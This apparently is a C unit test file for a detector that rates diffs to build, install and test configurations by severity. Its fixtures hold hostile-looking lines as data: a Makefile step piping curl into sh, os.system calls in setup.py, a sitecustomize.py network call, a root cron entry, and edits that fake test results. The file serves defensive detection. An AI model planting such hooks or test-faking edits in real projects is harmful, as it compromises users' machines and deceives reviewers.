/* What runs at install, build or test time (BLD-*): what must be seen, and its look-alikes. */
#include "base/buf.h"
#include "base/str.h"
#include "rules/policy.h"
#include "tests/unit/judge_fixture.h"

#define SCRIPTS(s) "{\"name\":\"x\",\"scripts\":{" s "}}"

static void npm(void **state)
{
	static const struct judged t[] = {
		{ "postinstall", { "package.json", "{}", SCRIPTS("\"postinstall\":\"node x.js\"") }, { 0 }, "high" },
		{ "prepare changed", { "package.json", SCRIPTS("\"prepare\":\"tsc\""), SCRIPTS("\"prepare\":\"tsc && node x\"") }, { 0 }, "high" },
		{ "bin", { "package.json", "{\"name\":\"x\"}", "{\"name\":\"x\",\"bin\":{\"git\":\"x.js\"}}" }, { 0 }, "high" },
		{ "gypfile", { "package.json", "{\"name\":\"x\"}", "{\"name\":\"x\",\"gypfile\":true}" }, { 0 }, "high" },
		{ "binding.gyp", { "binding.gyp", NULL, "{ 'targets': [] }" }, { 0 }, "high" },
		{ "gyp command", { "binding.gyp", "{ 'a': 1 }", "{ 'a': '<!(id)' }" }, { 0 }, "high" },
		{ "no postinstall", { "package.json", SCRIPTS("\"postinstall\":\"node x.js\""), "{\"name\":\"x\"}" }, { 0 }, "none" },
		{ "order", { "package.json", "{\"a\":1,\"bin\":\"x\"}", "{ \"bin\": \"x\",\n \"a\": 1 }" }, { 0 }, "none" },
		{ "start", { "package.json", "{}", SCRIPTS("\"start\":\"node x.js\"") }, { 0 }, "none" },
		{ "a dependency named install", { "package.json", "{}", "{\"devDependencies\":{\"install\":\"1\"}}" }, { 0 }, "none" },
		{ "husky", { "package.json", "{}", SCRIPTS("\"prepare\":\"husky\"") }, { 0 }, "medium" },
		{ "gyp comment", { "binding.gyp", "{ 'a': 1 }", "{ 'a': 1 } # x" }, { 0 }, "none" },
	};

	(void)state;
	JUDGE_ALL("BLD-NPM", t);
}

static void test_commands(void **state)
{
	static const struct judged t[] = {
		{ "member gone", { "package.json", SCRIPTS("\"test\":\"tsc && eslint . && jest\""), SCRIPTS("\"test\":\"tsc && jest\"") }, { 0 }, "high" },
		{ "no-op", { "package.json", SCRIPTS("\"lint\":\"eslint .\""), SCRIPTS("\"lint\":\"true\"") }, { 0 }, "high" },
		{ "echo", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"echo skipped && exit 0\"") }, { 0 }, "high" },
		{ "|| true", { "package.json", SCRIPTS("\"test\":\"jest --ci\""), SCRIPTS("\"test\":\"jest --ci || true\"") }, { 0 }, "high" },
		{ "; hides", { "package.json", SCRIPTS("\"test\":\"eslint . && jest\""), SCRIPTS("\"test\":\"eslint . ; jest\"") }, { 0 }, "high" },
		{ "ignore", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"jest --testPathIgnorePatterns auth\"") }, { 0 }, "high" },
		{ "one file", { "package.json", SCRIPTS("\"test\":\"mocha\""), SCRIPTS("\"test\":\"mocha test/ok.js\"") }, { 0 }, "high" },
		{ "narrower", { "package.json", SCRIPTS("\"test\":\"mocha test\""), SCRIPTS("\"test\":\"mocha test/unit\"") }, { 0 }, "high" },
		{ "max-warnings", { "package.json", SCRIPTS("\"lint\":\"eslint --max-warnings 0 .\""), SCRIPTS("\"lint\":\"eslint .\"") }, { 0 }, "high" },
		{ "script gone", { "package.json", SCRIPTS("\"typecheck\":\"tsc\",\"a\":\"b\""), SCRIPTS("\"a\":\"b\"") }, { 0 }, "high" },
		{ "through npm run", { "package.json", SCRIPTS("\"test\":\"npm run l && jest\",\"l\":\"eslint .\""), SCRIPTS("\"test\":\"npm run l && jest\",\"l\":\"echo\"") }, { 0 }, "high" },
		{ "pass with no tests", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"jest --passWithNoTests\"") }, { 0 }, "high" },
		{ "pretest gone", { "package.json", SCRIPTS("\"pretest\":\"eslint .\",\"test\":\"jest\""), SCRIPTS("\"test\":\"jest\"") }, { 0 }, "high" },
		{ "make", { "Makefile", "test:\n\tgo vet ./...\n\tgo test ./...\n", "test:\n\tgo test ./...\n" }, { 0 }, "high" },
		{ "make race", { "Makefile", "test:\n\tgo test -race ./...\n", "test:\n\tgo test ./...\n" }, { 0 }, "high" },
		{ "make ignores", { "Makefile", "check:\n\t./run\n", "check:\n\t-./run\n" }, { 0 }, "high" },
		{ "make prerequisite", { "Makefile", "check: lint unit\nlint:\n\truff check\nunit:\n\tpytest\n", "check: unit\nlint:\n\truff check\nunit:\n\tpytest\n" }, { 0 }, "medium" },
		{ "make variable", { "Makefile", "F = -q\ntest:\n\tpytest $(F)\n", "F = -q -k 'not slow'\ntest:\n\tpytest $(F)\n" }, { 0 }, "high" },
		{ "tox", { "tox.ini", "[testenv]\ncommands =\n    ruff check\n    pytest\n", "[testenv]\ncommands =\n    pytest\n" }, { 0 }, "high" },
		{ "tox deselect", { "tox.ini", "[testenv]\ncommands = pytest\n", "[testenv]\ncommands = pytest --deselect tests/a.py\n" }, { 0 }, "high" },
		{ "nox", { "noxfile.py", "def lint(session):\n    session.run('ruff')\n    session.run('mypy', 'src')\n", "def lint(session):\n    session.run('ruff')\n" }, { 0 }, "high" },
		{ "composer", { "composer.json", SCRIPTS("\"test\":[\"@stan\",\"phpunit\"],\"stan\":\"phpstan\""), SCRIPTS("\"test\":[\"phpunit\"],\"stan\":\"phpstan\"") }, { 0 }, "medium" },
		{ "composer echo", { "composer.json", SCRIPTS("\"test\":[\"phpunit\"]"), SCRIPTS("\"test\":[\"echo ok\"]") }, { 0 }, "high" },
		{ "rake", { "Rakefile", "task default: %i[spec rubocop]\n", "task default: %i[spec]\n" }, { 0 }, "high" },
		{ "mix", { "mix.exs", "defp aliases do\n [test: [\"format --check-formatted\", \"credo\"]]\nend\n", "defp aliases do\n [test: [\"credo\"]]\nend\n" }, { 0 }, "high" },
		{ "poe", { "pyproject.toml", "[tool.poe.tasks]\ntest = 'pytest --strict-markers'\n", "[tool.poe.tasks]\ntest = 'pytest'\n" }, { 0 }, "high" },

		{ "order", { "package.json", SCRIPTS("\"test\":\"tsc && eslint . && jest\""), SCRIPTS("\"test\":\"eslint . && jest && tsc\"") }, { 0 }, "none" },
		{ "more", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"eslint . && jest --ci\"") }, { 0 }, "none" },
		{ "verbose", { "package.json", SCRIPTS("\"test\":\"jest --verbose\""), SCRIPTS("\"test\":\"jest\"") }, { 0 }, "none" },
		{ "renamed", { "package.json", SCRIPTS("\"test\":\"npm run l && jest\",\"lint\":\"eslint .\",\"l\":\"eslint .\""), SCRIPTS("\"test\":\"npm run lint:js && jest\",\"lint:js\":\"eslint .\"") }, { 0 }, "none" },
		{ "npx", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"npx jest\"") }, { 0 }, "none" },
		{ "runner", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"vitest run\"") }, { 0 }, "none" },
		{ "wider", { "package.json", SCRIPTS("\"test\":\"mocha test/unit\""), SCRIPTS("\"test\":\"mocha test\"") }, { 0 }, "quiet" },
		{ "white space", { "package.json", SCRIPTS("\"test\":\"jest  --ci\""), SCRIPTS("\"test\":\"jest --ci\"") }, { 0 }, "none" },
		{ "clean step", { "package.json", SCRIPTS("\"test\":\"rm -rf out && jest\""), SCRIPTS("\"test\":\"jest\"") }, { 0 }, "none" },
		{ "split", { "package.json", SCRIPTS("\"test\":\"eslint . && jest\""), SCRIPTS("\"test\":\"npm run lint && npm run unit\",\"lint\":\"eslint .\",\"unit\":\"jest\"") }, { 0 }, "none" },
		{ "build target", { "Makefile", "all:\n\tcc a.c\ntest:\n\t./t\n", "all:\n\tcc a.c b.c\ntest:\n\t./t\n" }, { 0 }, "none" },
		{ "make moved", { "Makefile", "test: unit\nunit:\n\tpytest\n", "test:\n\tpytest\nunit:\n\tpytest\n" }, { 0 }, "none" },
		{ "make comment", { "Makefile", "test:\n\t./t\n", "# more\ntest: # x\n\t@./t\n" }, { 0 }, "none" },
		{ "dev script", { "package.json", SCRIPTS("\"test:watch\":\"jest --watch\",\"a\":\"b\""), SCRIPTS("\"a\":\"b\"") }, { 0 }, "none" },
	};

	(void)state;
	JUDGE_ALL("BLD-TESTCMD", t);
}

static void python(void **state)
{
	static const struct judged t[] = {
		{ "makereport", { "tests/conftest.py", "import pytest\n", "import pytest\ndef pytest_runtest_makereport(item, call):\n    yield\n" }, { 0 }, "critical" },
		{ "outcome", { "conftest.py", "x = 1\n", "x = 1\nr.outcome = 'passed'\n" }, { 0 }, "critical" },
		{ "equal", { "tests/test_a.py", "x = 1\n", "class A:\n    def __eq__(self, o):\n        return True\n" }, { 0 }, "critical" },
		{ "ignore", { "conftest.py", "x = 1\n", "collect_ignore = ['test_a.py']\n" }, { 0 }, "high" },
		{ "deselect", { "conftest.py", "x = 1\n", "def pytest_collection_modifyitems(items):\n    items[:] = items[:1]\n" }, { 0 }, "high" },
		{ "skip all", { "conftest.py", "x = 1\n", "def pytest_collection_modifyitems(items):\n    for i in items:\n        i.add_marker(pytest.mark.skip)\n" }, { 0 }, "high" },
		{ "setup process", { "setup.py", "setup()\n", "import os\nos.system('id')\nsetup()\n" }, { 0 }, "high" },
		{ "pth", { "src/x.pth", NULL, "import os; os.getcwd()\n" }, { 0 }, "high" },
		{ "site", { "sitecustomize.py", NULL, "import urllib.request\nurllib.request.urlopen('http://x')\n" }, { 0 }, "high" },
		{ "backend", { "pyproject.toml", "[build-system]\nrequires=['hatchling']\nbuild-backend='hatchling.build'\n", "[build-system]\nrequires=['hatchling']\nbuild-backend='shim'\nbackend-path=['t']\n" }, { 0 }, "high" },
		{ "requires", { "pyproject.toml", "[build-system]\nrequires=['hatchling']\n", "[build-system]\nrequires=['hatchling','evil']\n" }, { 0 }, "high" },
		{ "plugin", { "pytest.ini", "[pytest]\naddopts = -q\n", "[pytest]\naddopts = -q -p tools.shim\n" }, { 0 }, "high" },
		{ "cmdclass", { "setup.cfg", "[options]\nname = x\n", "[options]\nname = x\ncmdclass =\n    install = x.Y\n" }, { 0 }, "high" },

		{ "comment", { "tests/conftest.py", "x = 1\n", "# makes\nx = 1\n" }, { 0 }, "low" },
		{ "fixture", { "tests/conftest.py", "x = 1\n", "x = 1\n@pytest.fixture\ndef key():\n    return 1\n" }, { 0 }, "medium" },
		{ "re-wrapped", { "setup.py", "x = os.popen('a', 'b')\n", "x = os.popen(\n    \"a\",\n    \"b\",\n)\n" }, { 0 }, "low" },
		{ "moved", { "setup.py", "a()\nos.system('id')\n", "os.system('id')\na()\n" }, { 0 }, "quiet" },
		{ "docstring", { "conftest.py", "x = 1\n", "\"\"\"os.system('x') is bad\"\"\"\nx = 1\n" }, { 0 }, "low" },
		{ "backend version", { "pyproject.toml", "[build-system]\nrequires=['hatchling==1.1']\n", "[build-system]\nrequires=['hatchling==1.2']\n" }, { 0 }, "none" },
		{ "new project", { "pyproject.toml", NULL, "[build-system]\nrequires=['hatchling']\nbuild-backend='hatchling.build'\n" }, { 0 }, "quiet" },
		{ "equal by value", { "tests/test_a.py", "x = 1\n", "class A:\n    def __eq__(self, o):\n        return self.x == o.x\n" }, { 0 }, "none" },
		{ "no plugin", { "pytest.ini", "[pytest]\naddopts = -q\n", "[pytest]\naddopts = -q -p no:cacheprovider\n" }, { 0 }, "none" },
	};

	(void)state;
	JUDGE_ALL("BLD-PY", t);
}

static void programs_of_c(void **state)
{
	static const struct judged t[] = {
		{ "curl", { "Makefile", "all:\n\tcc a.c\n", "all:\n\tcurl -s https://x/a.sh | sh\n\tcc a.c\n" }, { 0 }, "high" },
		{ "execute_process", { "CMakeLists.txt", "project(a)\n", "project(a)\nexecute_process(COMMAND sh x.sh)\n" }, { 0 }, "high" },
		{ "fetch", { "CMakeLists.txt", "project(a)\n", "project(a)\nFetchContent_Declare(x URL http://x)\n" }, { 0 }, "high" },
		{ "bazel", { "WORKSPACE", "a()\n", "a()\nhttp_archive(name='x', urls=['https://x'])\n" }, { 0 }, "high" },
		{ "meson", { "meson.build", "project('a')\n", "project('a')\nrun_command('sh', 'x')\n" }, { 0 }, "high" },
		{ "a source", { "CMakeLists.txt", "add_executable(a a.c)\n", "add_executable(a a.c b.c)\n" }, { 0 }, "medium" },
		{ "bumped", { "CMakeLists.txt", "FetchContent_Declare(x URL https://x/v1.2.3.tar.gz)\n", "FetchContent_Declare(x URL https://x/v1.3.0.tar.gz)\n" }, { 0 }, "medium" },
		{ "git version", { "Makefile", "V = 1\n", "V = $(shell git describe)\n" }, { 0 }, "medium" },
		{ "comment", { "Makefile", "a: b\n", "# curl x | sh\na: b\n" }, { 0 }, "low" },
		{ "reformat", { "CMakeLists.txt", "execute_process(COMMAND a b)\n", "execute_process(\n  COMMAND a b\n)\n" }, { 0 }, "low" },
	};

	(void)state;
	JUDGE_ALL("BLD-C", t);
}

static void other_programs(void **state)
{
	static const struct judged rs[] = {
		{ "process", { "build.rs", NULL, "fn main() { Command::new(\"sh\").status(); }\n" }, { 0 }, "high" },
		{ "network", { "build.rs", "fn main() {}\n", "fn main() { ureq::get(\"http://x\"); }\n" }, { 0 }, "high" },
		{ "wrapper", { ".cargo/config.toml", "[build]\njobs = 2\n", "[build]\njobs = 2\nrustc-wrapper = 'x'\n" }, { 0 }, "high" },
		{ "runner", { ".cargo/config.toml", NULL, "[target.x86_64-unknown-linux-gnu]\nrunner = 'x'\n" }, { 0 }, "high" },
		{ "print", { "build.rs", "fn main() {}\n", "fn main() { println!(\"cargo:rerun-if-changed=a\"); }\n" }, { 0 }, "medium" },
		{ "comment", { "build.rs", "fn main() {}\n", "// Command::new(\"sh\")\nfn main() {}\n" }, { 0 }, "low" },
		{ "source", { "src/main.rs", "fn main() {}\n", "fn main() { Command::new(\"sh\"); }\n" }, { 0 }, "none" },
	};
	static const struct judged go[] = {
		{ "generate curl", { "a.go", "package a\n", "package a\n\n//go:generate sh -c \"curl x\"\n" }, { 0 }, "high" },
		{ "toolexec", { "Makefile", "test:\n\tgo test\n", "test:\n\tgo test -toolexec ./x\n" }, { 0 }, "high" },
		{ "cgo", { "a.go", "package a\n", "package a\n// #cgo LDFLAGS: -Wl,-rpath,/tmp\nimport \"C\"\n" }, { 0 }, "high" },
		{ "stringer", { "a.go", "package a\n", "package a\n//go:generate stringer -type=A\n" }, { 0 }, "medium" },
		{ "code", { "a.go", "package a\n", "package a\nfunc f() {}\n" }, { 0 }, "none" },
		{ "removed", { "a.go", "package a\n//go:generate stringer\n", "package a\n" }, { 0 }, "none" },
	};
	static const struct judged jvm[] = {
		{ "exec", { "build.gradle", "a\n", "a\ntask x(type: Exec) { commandLine 'sh', 'x' }\n" }, { 0 }, "high" },
		{ "remote", { "build.gradle", "a\n", "a\napply from: 'https://x/y.gradle'\n" }, { 0 }, "high" },
		{ "maven", { "pom.xml", "<project/>", "<project><plugin><artifactId>exec-maven-plugin</artifactId></plugin></project>" }, { 0 }, "high" },
		{ "version", { "build.gradle", "id 'x' version '1.2'\n", "id 'x' version '1.3'\n" }, { 0 }, "medium" },
		{ "dependency", { "pom.xml", "<project/>", "<project><dependency><artifactId>x</artifactId></dependency></project>" }, { 0 }, "medium" },
		{ "comment", { "build.gradle.kts", "a\n", "// exec { }\na\n" }, { 0 }, "low" },
	};
	static const struct judged net[] = {
		{ "exec", { "a.csproj", "<Project/>", "<Project><Target><Exec Command=\"sh x\"/></Target></Project>" }, { 0 }, "high" },
		{ "prebuild", { "Directory.Build.props", "<Project/>", "<Project><PreBuildEvent>sh x</PreBuildEvent></Project>" }, { 0 }, "high" },
		{ "task", { "x.targets", "<Project/>", "<Project><UsingTask TaskName=\"a\"/></Project>" }, { 0 }, "high" },
		{ "property", { "Directory.Build.props", "<Project/>", "<Project><A>1</A></Project>" }, { 0 }, "medium" },
		{ "package", { "a.csproj", "<Project/>", "<Project><PackageReference Include=\"A\"/></Project>" }, { 0 }, "none" },
		{ "comment", { "x.targets", "<Project/>", "<Project/><!-- <Exec Command=\"x\"/> -->" }, { 0 }, "low" },
	};

	(void)state;
	JUDGE_ALL("BLD-RS", rs);
	JUDGE_ALL("BLD-GO", go);
	JUDGE_ALL("BLD-JVM", jvm);
	JUDGE_ALL("BLD-NET", net);
}

static void scripts(void **state)
{
	static const struct judged rb[] = {
		{ "system", { "extconf.rb", "a\n", "a\nsystem('curl x')\n" }, { 0 }, "high" },
		{ "extensions", { "x.gemspec", "a\n", "a\ns.extensions = ['ext/extconf.rb']\n" }, { 0 }, "high" },
		{ "ticks", { "Rakefile", "a\n", "a\nx = `id`\n" }, { 0 }, "high" },
		{ "git files", { "x.gemspec", "a\n", "a\ns.files = `git ls-files`.split\n" }, { 0 }, "medium" },
		{ "a gem", { "Gemfile", "gem 'a'\n", "gem 'a'\ngem 'b'\n" }, { 0 }, "medium" },
		{ "comment", { "Rakefile", "a\n", "# system('x')\na\n" }, { 0 }, "low" },
	};
	static const struct judged php[] = {
		{ "hook", { "composer.json", "{}", SCRIPTS("\"post-install-cmd\":\"php x.php\"") }, { 0 }, "high" },
		{ "plugin", { "composer.json", "{}", "{\"config\":{\"allow-plugins\":{\"a/b\":true}}}" }, { 0 }, "high" },
		{ "all plugins", { "composer.json", "{}", "{\"config\":{\"allow-plugins\":true}}" }, { 0 }, "high" },
		{ "require", { "composer.json", "{}", "{\"require\":{\"a/b\":\"^1\"}}" }, { 0 }, "medium" },
		{ "plugin off", { "composer.json", "{}", "{\"config\":{\"allow-plugins\":{\"a/b\":false}}}" }, { 0 }, "medium" },
		{ "known plugin", { "composer.json", "{}", "{\"config\":{\"allow-plugins\":{\"pestphp/pest-plugin\":true}}}" }, { 0 }, "medium" },
		{ "order", { "composer.json", "{\"a\":1,\"b\":2}", "{\"b\":2,\"a\":1}" }, { 0 }, "low" },
	};
	static const struct judged ex[] = {
		{ "cmd", { "mix.exs", "a\n", "a\nSystem.cmd(\"sh\", [])\n" }, { 0 }, "high" },
		{ "alias", { "mix.exs", "a\n", "a\nsetup: [\"cmd curl x\"]\n" }, { 0 }, "high" },
		{ "eval", { "mix.exs", "a\n", "a\nCode.eval_string(x)\n" }, { 0 }, "high" },
		{ "dep", { "mix.exs", "a\n", "a\n{:jason, \"~> 1.4\"}\n" }, { 0 }, "medium" },
		{ "version", { "mix.exs", "version: \"1\"\n", "version: \"2\"\n" }, { 0 }, "medium" },
		{ "comment", { "mix.exs", "a\n", "a # System.cmd(\"x\")\n" }, { 0 }, "low" },
	};
	static const struct judged sh[] = {
		{ "command", { ".envrc", "export A=1\n", "export A=1\ncurl -s x\n" }, { 0 }, "high" },
		{ "path", { ".bashrc", "a=1\n", "a=1\nexport PATH=/tmp:$PATH\n" }, { 0 }, "high" },
		{ "cron", { "etc/cron.d/x", NULL, "* * * * * root /x\n" }, { 0 }, "high" },
		{ "unit", { "x.service", "[Service]\nUser=app\nExecStart=/a\n", "[Service]\nUser=app\nExecStart=/b\n" }, { 0 }, "high" },
		{ "unhardened", { "x.service", "[Service]\nNoNewPrivileges=yes\nExecStart=/a\n", "[Service]\nExecStart=/a\n" }, { 0 }, "high" },
		{ "hardened", { "x.service", "[Service]\nExecStart=/a\n", "[Service]\nProtectSystem=strict\nExecStart=/a\n" }, { 0 }, "medium" },
		{ "export", { ".envrc", "use nix\n", "use nix\nexport A=1\n" }, { 0 }, "medium" },
		{ "comment", { ".profile", "a=1\n", "# curl\na=1\n" }, { 0 }, "low" },
	};

	(void)state;
	JUDGE_ALL("BLD-RB", rb);
	JUDGE_ALL("BLD-PHP", php);
	JUDGE_ALL("BLD-EX", ex);
	JUDGE_ALL("BLD-SH", sh);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(npm),	   cmocka_unit_test(test_commands),  cmocka_unit_test(python),	cmocka_unit_test(programs_of_c),
		cmocka_unit_test(scripts), cmocka_unit_test(other_programs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
